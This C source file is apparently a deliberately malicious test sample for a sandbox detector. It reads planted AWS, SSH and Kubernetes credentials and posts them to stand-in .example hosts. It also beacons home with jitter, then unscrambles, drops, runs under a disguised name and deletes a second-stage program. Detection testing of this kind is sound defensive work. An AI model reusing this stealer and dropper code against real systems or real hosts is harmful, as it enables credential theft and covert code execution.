// SPDX-License-Identifier: Apache-2.0
/*
 * bad-sample: a vendor binary that misbehaves, for the demo and the tests. It is harmless: it reads
 * files that a sandbox planted and talks to names that exist nowhere (RFC 2606, .example).
 *
 *   step               what it does                                    finding
 *   steal              reads three families of planted credentials     honeytoken_read,
 *                                                                      credential_sweep
 *   steal              posts one in clear, one as base64               honeytoken_exfil
 *   beacon             calls home once a second                        beaconing
 *   run_second_stage   unscrambles, drops, runs, deletes a program     dropped_executable
 *
 * A thief expects failures (a missing file, no network) and carries on: it always exits 0.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <netdb.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "stage2.h" /* SCRAMBLE, stage2[]: made by embed */

#define DROP_HOST "telemetry.vendor.example"
#define HOME_HOST "updates.vendor.example"
#define ARRAY_SIZE(a) (sizeof(a) / sizeof((a)[0]))

enum { FILE_MAX = 16 * 1024 };

/* Read ~/name into text (always terminated); the length, 0 if it can't be read. */
static size_t read_home_file(const char *name, char text[FILE_MAX])
{
	const char *home = getenv("HOME");
	char path[512];
	ssize_t size;
	int fd;

	snprintf(path, sizeof(path), "%s/%s", home ? home : "/root", name);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	size = fd < 0 ? 0 : read(fd, text, FILE_MAX - 1);
	if (fd >= 0)
		close(fd);
	text[size > 0 ? size : 0] = '\0';
	return size > 0 ? size : 0;
}

static void base64(const char *data, size_t size, char *out)
{
	static const char alphabet[] =
		"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	const unsigned char *in = (const unsigned char *)data;

	for (size_t i = 0; i < size; i += 3) {
		size_t left = size - i;
		unsigned int group = in[i] << 16 | (left > 1 ? in[i + 1] << 8 : 0) |
				     (left > 2 ? in[i + 2] : 0);

		*out++ = alphabet[group >> 18];
		*out++ = alphabet[group >> 12 & 63];
		*out++ = left > 1 ? alphabet[group >> 6 & 63] : '=';
		*out++ = left > 2 ? alphabet[group & 63] : '=';
	}
	*out = '\0';
}

/* A connected TCP socket, or -1. Both directions time out, so a silent server can't hold us up. */
static int connect_to(const char *host, const char *port)
{
	struct addrinfo hints = { .ai_family = AF_INET, .ai_socktype = SOCK_STREAM };
	struct timeval patience = { .tv_sec = 1 };
	struct addrinfo *address;
	int fd;

	if (getaddrinfo(host, port, &hints, &address))
		return -1;
	fd = socket(address->ai_family, address->ai_socktype | SOCK_CLOEXEC, 0);
	if (fd >= 0) {
		setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
		setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof(patience));
		if (connect(fd, address->ai_addr, address->ai_addrlen)) {
			close(fd);
			fd = -1;
		}
	}
	freeaddrinfo(address);
	return fd;
}

/* Send one HTTP request and throw the answer away. */
static void request(const char *method, const char *host, const char *path, const char *body)
{
	char answer[1024];
	int fd = connect_to(host, "80");

	if (fd < 0)
		return;
	dprintf(fd, "%s %s HTTP/1.1\r\nHost: %s\r\nContent-Length: %zu\r\nConnection: close\r\n\r\n%s",
		method, path, host, strlen(body), body);
	while (read(fd, answer, sizeof(answer)) > 0)
		;
	close(fd);
}

static void steal(void)
{
	static char text[FILE_MAX], encoded[FILE_MAX * 4 / 3 + 8];

	if (read_home_file(".aws/credentials", text))
		request("POST", DROP_HOST, "/v1/metrics", text);
	if (read_home_file(".ssh/id_rsa", text)) {
		base64(text, strlen(text), encoded);
		request("POST", DROP_HOST, "/v1/crash", encoded);
	}
	read_home_file(".kube/config", text);
}

/* Call home six times, a second apart, each time a few hundredths of a second early or late. */
static void beacon(void)
{
	static const int jitter_ms[] = { 20, -35, 10, 40, -15 };

	request("GET", HOME_HOST, "/poll", "");
	for (size_t i = 0; i < ARRAY_SIZE(jitter_ms); i++) {
		usleep((1000 + jitter_ms[i]) * 1000);
		request("GET", HOME_HOST, "/poll", "");
	}
}

static void run_second_stage(void)
{
	static unsigned char program[sizeof(stage2)];
	char path[] = "/tmp/.cache-XXXXXX";
	int fd = mkstemp(path);
	pid_t child;

	if (fd < 0)
		return;
	for (size_t i = 0; i < sizeof(stage2); i++)
		program[i] = stage2[i] ^ SCRAMBLE;
	if (write(fd, program, sizeof(program)) != sizeof(program))
		perror("second stage");
	close(fd); /* a file open for writing can't be executed */
	chmod(path, 0700);
	child = fork();
	if (child == 0) {
		execl(path, "kworker", NULL);
		_exit(127);
	}
	if (child > 0)
		waitpid(child, NULL, 0);
	unlink(path);
}

int main(void)
{
	signal(SIGPIPE, SIG_IGN);
	setlinebuf(stdout);
	puts("vendor agent: starting");
	steal();
	beacon();
	run_second_stage();
	puts("vendor agent: done");
	return 0;
}
